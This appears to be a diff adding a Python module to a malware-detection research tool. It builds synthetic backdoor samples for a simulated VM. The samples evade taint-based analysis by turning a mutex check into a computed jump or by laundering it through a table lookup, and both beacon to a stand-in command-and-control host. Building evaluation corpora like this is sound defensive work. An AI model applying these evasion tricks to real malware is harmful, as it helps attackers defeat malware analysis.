@@ -1,0 +1,84 @@
+"""Evasion corpus (paper §VII limitations).
+
+``build_control_dependence_evader`` reproduces the documented blind spot:
+the malware converts the resource-check result into a *computed jump target*
+instead of comparing it, so no tainted ``cmp``/``test`` predicate ever fires
+and Phase I filters the sample even though it is resource-sensitive.  The
+limitation bench demonstrates the pipeline missing it, as the paper predicts.
+
+``build_index_launder_evader`` is the data-flow variant the paper lists as
+future work ("future malware could deliberately introduce additional data
+propagation"): the tainted check result is laundered through a table lookup
+(the loaded byte carries no taint under pure data-flow policy).  The
+pointer-taint option (``taint_addresses=True``) recovers it.
+"""
+
+from __future__ import annotations
+
+from ..vm.program import Program
+from .builder import AsmBuilder, frag_beacon, frag_create_mutex, frag_exit
+
+FAMILY = "evasive_controldep"
+CATEGORY = "backdoor"
+
+
+def build_control_dependence_evader() -> Program:
+    """OpenMutex result steers a computed jump, never a predicate.
+
+    Handle values are ``0x100 + 4k``; NULL is 0.  ``shr eax, 8`` then
+    clamping via ``and`` maps {absent: 0, present: >=1} to a jump-table
+    index without any comparison instruction touching tainted data.
+    """
+    b = AsmBuilder(FAMILY)
+    name = b.string("cd_evader_mtx")
+
+    b.call("OpenMutexA", "0x1F0001", "0", name)
+    # eax: 0 (absent) or >= 0x100 (present) -> index 0/1 without cmp/test.
+    b.emit(
+        "    shr eax, 8",
+        "    and eax, 1",
+        "    imul eax, 2",            # entries are 2 instructions apart
+        "    add eax, dispatch",
+        "    jmp eax",
+    )
+    b.label("dispatch")
+    b.emit("    jmp not_infected")    # index 0: proceed
+    b.emit("    nop")
+    b.emit("    jmp infected")        # index 1: bail out
+
+    b.label("not_infected")
+    frag_create_mutex(b, "cd_evader_mtx")
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="EVADE")
+    b.emit("    halt")
+
+    b.label("infected")
+    frag_exit(b, 0)
+    return b.build(family=FAMILY, category=CATEGORY, evasive=True)
+
+
+def build_index_launder_evader() -> Program:
+    """Launders the marker-check result through a table lookup.
+
+    ``eax`` (tainted handle) is folded to an index 0/1; the *loaded table
+    byte* — untainted under pure data-flow taint — feeds the predicate.
+    """
+    b = AsmBuilder("evasive_indexlaunder")
+    name = b.string("il_evader_mtx")
+    b._data.append("jumptbl: .byte 0, 1")
+
+    b.call("OpenMutexA", "0x1F0001", "0", name)
+    b.emit(
+        "    shr eax, 8",
+        "    and eax, 1",        # 0 = absent, 1 = present (still tainted)
+        "    xor ebx, ebx",
+        "    movb ebx, [jumptbl+eax]",   # laundering point
+        "    cmp ebx, 1",
+        "    je infected",
+    )
+    frag_create_mutex(b, "il_evader_mtx")
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="LNDR")
+    b.emit("    halt")
+
+    b.label("infected")
+    frag_exit(b, 0)
+    return b.build(family="evasive_indexlaunder", category="backdoor", evasive=True)
